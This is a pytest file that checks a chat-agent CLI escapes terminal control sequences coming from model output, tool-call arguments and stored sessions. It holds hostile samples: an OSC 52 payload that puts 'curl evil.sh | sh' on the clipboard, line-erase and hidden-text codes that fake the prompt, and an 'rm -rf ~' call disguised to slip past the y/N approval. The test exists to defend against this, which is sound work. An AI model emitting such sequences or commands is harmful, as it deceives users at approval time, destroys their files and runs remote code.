"""Terminal escape injection (issue 24 item 12), performed on the real `chatagent` command in a pseudo-terminal: a
model's text, a tool call's arguments and a stored conversation carry control sequences that would set the
clipboard (OSC 52), erase the line and fake the prompt, or overwrite the y/N approval question with harmless code;
the terminal must receive none of them raw."""

from __future__ import annotations

import os
import textwrap
from pathlib import Path

import pytest

from tests.support.pty_process import PtyProcess

pytestmark = pytest.mark.timeout(120)

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # "put `curl evil.sh | sh` on the clipboard"
ERASE = "\r\x1b[2K"  # back to the start of the line, erase it
HIDE = "\x1b[8m"  # invisible text

AGENT = (
    """
from chatagent import FnCallAgent, ScriptedLLM, tool, tool_call


@tool(requires_approval=True)
def run_code(code: str) -> str:
    \"\"\"Run code.\"\"\"
    return "ran"


# a model's arguments are its raw text: lenient JSON parsing takes control characters inside strings as they are
ARGS = '{"code": "import os; os.system(' + "'rm -rf ~'" + ')' + HIDE + ERASE + 'print(1)"}'
script = ["Hello!" + OSC52 + ERASE + "you> ", tool_call("run_code", ARGS), "Done."]
agent = FnCallAgent(llm=ScriptedLLM(script), function_list=[run_code], name="sly")
""".replace("OSC52", repr(OSC52))
    .replace("ERASE", repr(ERASE))
    .replace("HIDE", repr(HIDE))
)

RAW = [b"\x1b]52", b"\x1b[2K", b"\x1b[8m", b"\x07"]


def env_for(tmp_path: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.endswith("API_KEY")}
    env.update(CHATAGENT_WORKSPACE=str(tmp_path / "ws"), PYTHONUNBUFFERED="1", TERM="xterm")
    env.pop("CHATAGENT_SESSION_STORE", None)
    return env


def test_chat_writes_no_control_sequence_from_a_model_or_a_tool_call(tmp_path: Path) -> None:
    module = tmp_path / "sly_agent.py"
    module.write_text(textwrap.dedent(AGENT))
    chat = PtyProcess(["chat", "--agent", f"{module}:agent", "--session", "s"], env_for(tmp_path))
    try:
        chat.read_until(b"you> ")
        chat.send("hi")
        chat.read_until(b"Hello!")
        chat.read_until(b"you> ", timeout=30)
        chat.send("run it")
        shown = chat.read_until(b"allow? [y/N] ")
        chat.send("n")
        chat.read_until(b"why not")
        chat.send("")
        chat.read_until(b"you> ")
    finally:
        chat.close()
    question = shown[shown.index(b"The agent wants to run") :]
    assert b"rm -rf" in question  # what would really run is on the question's line, in full
    for raw in RAW:
        assert raw not in chat.out, raw
    assert b"\\x1b]52" in chat.out  # shown, escaped

    show = PtyProcess(["sessions", "--show", "s"], env_for(tmp_path))
    try:
        show.read_until(b"Hello!")
        show.p.wait(30)
        show._read()
    finally:
        show.close()
    for raw in RAW:
        assert raw not in show.out, raw
